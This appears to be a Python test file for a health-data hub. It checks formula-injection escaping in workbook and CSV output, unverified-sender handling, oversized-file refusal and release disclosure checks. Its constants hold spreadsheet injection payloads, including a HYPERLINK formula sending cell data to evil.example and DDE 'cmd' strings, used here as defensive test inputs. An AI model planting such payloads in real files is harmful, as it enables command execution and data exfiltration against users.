"""The hub as a target: hostile text never becomes a live spreadsheet formula, a rejection names
only a verified sender, oversized files are refused without being read, and ``hub load`` checks
a release as ``hub receive`` does (month, shape, disclosure rules, small counts)."""

from __future__ import annotations

import base64
import csv
import io
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path

import orjson
import pytest
from hub_data import INTERNAL_RULES, meta, with_rules
from joserfc.jwk import ECKey
from openpyxl import load_workbook

from ltcbridge.concepts import NEED_ANY
from ltcbridge.feed.seal import HEADER_FIELDS
from ltcbridge.hub import receive as receive_module
from ltcbridge.hub.checks import ReleaseProblem, check_release
from ltcbridge.hub.collate import Collator
from ltcbridge.hub.config import HubConfig
from ltcbridge.hub.keys import KeyRegistry
from ltcbridge.hub.load import load_folder
from ltcbridge.hub.receive import UNVERIFIED, Receiver, read_bounded, receive_mesh
from ltcbridge.hub.report.build import write_report
from ltcbridge.hub.report.cells_safe import FORMULA_STARTS, inert
from ltcbridge.hub.rules import ReleaseRules, fallback_rules, rules_extension, rules_of
from ltcbridge.hub.store import HubStoreDb, open_store
from ltcbridge.hub.synthetic import measure_report

SRC = Path(__file__).resolve().parents[2] / "src"
HOSTILE_ORG = '=HYPERLINK("http://evil.example/"&A1,"x")'
HOSTILE_STRATUM = "+cmd|' /C calc'!A0"
HOSTILE_AGREEMENT = "-2+3+cmd|' /C calc'!A0"
HOSTILE_DETAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SENDER = "=EVIL()"


def _fake_token(sender: str) -> str:
    """A compact JWE-shaped token whose (unsigned) header claims ``sender``: it opens no
    further than the header, as a hostile file would."""
    header = {name: "x" for name in HEADER_FIELDS.values()}
    header.update(ltc_sender=sender, ltc_sequence=1, kid="not-this-hub", alg="ECDH-ES+A256KW")
    encoded = base64.urlsafe_b64encode(orjson.dumps(header)).rstrip(b"=").decode()
    return ".".join([encoded, "a", "b", "c", "d"])


def _receiver(store: object) -> Receiver:
    return Receiver(store=store, recipient="QHM", private_key=ECKey.generate_key("P-384"),
                    sender_keys=KeyRegistry())  # type: ignore[arg-type]  # fmt: skip


def test_a_rejected_files_sender_is_unverified_and_its_claim_only_quoted_in_the_detail(
    tmp_path: Path,
) -> None:
    with open_store(tmp_path / "hub.sqlite") as store:
        receiver = _receiver(store)
        assert not receiver.receive(_fake_token(HOSTILE_SENDER), origin="folder x.jwe")
        [(_at, sender, reason, detail)] = store.table("rejections")
    assert sender == UNVERIFIED and reason == "wrong-recipient-key"
    assert f"claims sender {HOSTILE_SENDER!r}" in detail  # kept, quoted, for the follow-up
    assert not detail.startswith(FORMULA_STARTS)


def test_no_cell_the_hub_writes_from_received_text_is_a_live_formula(tmp_path: Path) -> None:
    """Hostile org, stratum, agreement id, rejection detail and claimed sender all reach the
    workbook and the CSV files, and not one of them can run."""
    with open_store(tmp_path / "hub.sqlite") as store:
        cells = {(NEED_ANY, None, None): 20, (NEED_ANY, "sex", HOSTILE_STRATUM): 20}
        hostile_meta = replace(meta(sender=HOSTILE_ORG), agreement_id=HOSTILE_AGREEMENT)
        store.add_release(hostile_meta, [measure_report(HOSTILE_ORG, "2026-10", cells)])
        store.add_rejection("2026-11-01T00:00:00+00:00", "\tY00011", "\r-1", HOSTILE_DETAIL)
        _receiver(store).receive(_fake_token(HOSTILE_SENDER), origin=HOSTILE_DETAIL)
        write_report(Collator(store, HubConfig()), tmp_path / "out")
    book = load_workbook(tmp_path / "out" / "hub.xlsx")
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    seen.add(cell.value)
    fields = set()
    for path in (tmp_path / "out" / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    assert not field.startswith(FORMULA_STARTS), (path.name, field)
                    fields.add(field)
    for hostile in (HOSTILE_ORG, HOSTILE_STRATUM, HOSTILE_AGREEMENT, HOSTILE_DETAIL):
        assert inert(hostile) in seen and inert(hostile) in fields  # there, and escaped
    assert "'\tY00011" in fields and "'\r-1" in fields
    assert UNVERIFIED in fields and HOSTILE_SENDER not in fields


def test_an_oversized_sealed_file_is_refused_unread_with_little_memory(tmp_path: Path) -> None:
    """A sparse 1 GB file: refused as too large from its size, moved to rejected/; the process
    that received it stayed small (it never read the file)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    subprocess.run(["truncate", "-s", "1G", str(inbox / "huge.jwe")], check=True)
    script = textwrap.dedent(f"""
        from joserfc.jwk import ECKey
        from ltcbridge.hub.keys import KeyRegistry
        from ltcbridge.hub.receive import Receiver, receive_folder
        from ltcbridge.hub.store import open_store
        with open_store({str(tmp_path / "hub.sqlite")!r}) as store:
            receiver = Receiver(store=store, recipient="QHM",
                                private_key=ECKey.generate_key("P-384"), sender_keys=KeyRegistry())
            result = receive_folder(receiver, {str(inbox)!r})
            [rejected] = result.rejected
            print(rejected.reason, rejected.sender)
            print(rejected.detail)
        # the peak of this process's own memory (VmHWM starts afresh at exec, unlike
        # getrusage's ru_maxrss, which keeps the peak of the forking test process)
        status = open("/proc/self/status").read()
        print(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM")))
    """)
    env = {"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"}
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, check=True
    )
    reason_line, detail, peak_kb = done.stdout.strip().splitlines()
    assert reason_line == f"too-large {UNVERIFIED}"
    assert "1,073,741,824 bytes" in detail and "limit" in detail
    assert int(peak_kb) < 200 * 1024, f"peak memory {int(peak_kb) // 1024} MB"
    assert (inbox / "rejected" / "huge.jwe").exists()


class _EndlessMessage:
    """A MESH message that would stream 50 MB; counts what was read from it."""

    def __init__(self) -> None:
        self.read_bytes = 0
        self.acknowledged = False

    def read(self, n: int = -1) -> bytes:
        n = min(n if n > 0 else 1 << 20, 50 * 2**20 - self.read_bytes)
        self.read_bytes += n
        return b"A" * n

    def acknowledge(self) -> None:
        self.acknowledged = True

    def __enter__(self) -> _EndlessMessage:
        return self

    def __exit__(self, *exc: object) -> None:
        return None


class _Client:
    def __init__(self) -> None:
        self.message = _EndlessMessage()

    def list_messages(self, workflow_filter: str | None = None) -> list[str]:
        return ["m1"]

    def retrieve_message(self, message_id: str) -> _EndlessMessage:
        return self.message


def test_an_oversized_mesh_message_is_refused_after_reading_at_most_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(receive_module, "MAX_SEALED_BYTES", 2**20)
    client = _Client()
    with open_store(tmp_path / "hub.sqlite") as store:
        result = receive_mesh(_receiver(store), client, None)
    assert [(r.reason, r.sender) for r in result.rejected] == [("too-large", UNVERIFIED)]
    assert client.message.acknowledged  # refused, recorded, not left to block the inbox
    assert client.message.read_bytes <= 2**20 + 2**20  # stopped within a chunk of the limit
    assert read_bounded(io.BytesIO(b"x" * 10), limit=10) == "x" * 10
    assert read_bounded(io.BytesIO(b"x" * 11), limit=10) is None


# -- hub load checks a release as hub receive does ------------------------------------------
def _write(folder: Path, name: str, report: dict) -> None:
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(orjson.dumps(report))


def test_load_refuses_a_bad_month_and_an_unmasked_small_count(tmp_path: Path) -> None:
    folder = tmp_path / "feed"
    bad_month = measure_report("Y00011", "2026-10", {(NEED_ANY, None, None): 20})
    bad_month["period"]["start"] = "2026-13-01"
    _write(folder, "bad-month.json", bad_month)
    _write(folder, "small.json", measure_report("Y00012", "2026-10", {(NEED_ANY, None, None): 3}))
    internal = with_rules(measure_report("Y00013", "2026-10", {(NEED_ANY, None, None): 3}),
                          INTERNAL_RULES)  # fmt: skip
    _write(folder, "internal.json", internal)
    _write(folder, "good.json", measure_report("Y00014", "2026-10", {(NEED_ANY, None, None): 20}))
    with open_store(tmp_path / "hub.sqlite") as store:
        result = load_folder(folder, store, "QHM")
        assert sorted(m.sender for m in result.stored) == ["Y00013", "Y00014"]
        refused = {item.what: item.reason for item in result.refused}
        assert "not a month" in refused["Y00011 2026-13"]
        assert "unmasked count of 1 to 7" in refused["Y00012 2026-10"]
        assert "3" not in refused["Y00012 2026-10"].split(":")[-1]  # the count is not repeated
        assert len(store.table("rejections")) == 2
        assert store.rows("SELECT source FROM release_rules ORDER BY source") == [
            ("hub config",), ("release",)]  # fmt: skip


def test_the_release_checker_reads_the_rules_and_refuses_what_does_not_fit() -> None:
    rules = ReleaseRules("DSA-1", threshold=5, rounding=5, secondary=True)
    report = with_rules(measure_report("Y00011", "2026-10", {(NEED_ANY, None, None): 20}), rules)
    fallback = fallback_rules(HubConfig())
    assert rules_of(report) == rules and rules_of(measure_report("Y", "2026-10", {})) is None
    assert check_release(meta(), [report], fallback) == rules
    other = with_rules(report, ReleaseRules("DSA-OTHER", 5, 5, True))
    cases = {
        "agreement-mismatch": [other],
        "rules-mismatch": [report, measure_report("Y00011", "2026-10", {})],
        "reporter-mismatch": [with_rules(measure_report("Y00012", "2026-10", {}), rules)],
        "period-mismatch": [with_rules(measure_report("Y00011", "2026-09", {}), rules)],
        "empty-release": [],
    }
    broken = orjson.loads(orjson.dumps(report))
    broken["extension"][0]["extension"][1]["valueInteger"] = "five"
    cases["malformed"] = [broken]
    for reason, reports in cases.items():
        with pytest.raises(ReleaseProblem) as caught:
            check_release(meta(), reports, fallback)
        assert caught.value.reason == reason, (reason, caught.value.detail)
    assert rules_extension(rules)["extension"][0] == {"url": "agreement", "valueString": "DSA-1"}


def test_the_store_never_stores_a_count_its_rules_could_not_produce(store: HubStoreDb) -> None:
    """add_release called directly (no checker in front): an unmasked 3 under threshold 7 has
    no possible true value, so the release is refused, not stored with an empty range."""
    from ltcbridge.feed.measure_report import ReportError

    with pytest.raises(ReportError, match="could not have produced"):
        store.add_release(
            meta(), [measure_report("Y00011", "2026-10", {(NEED_ANY, None, None): 3})]
        )
    assert store.table("releases") == []
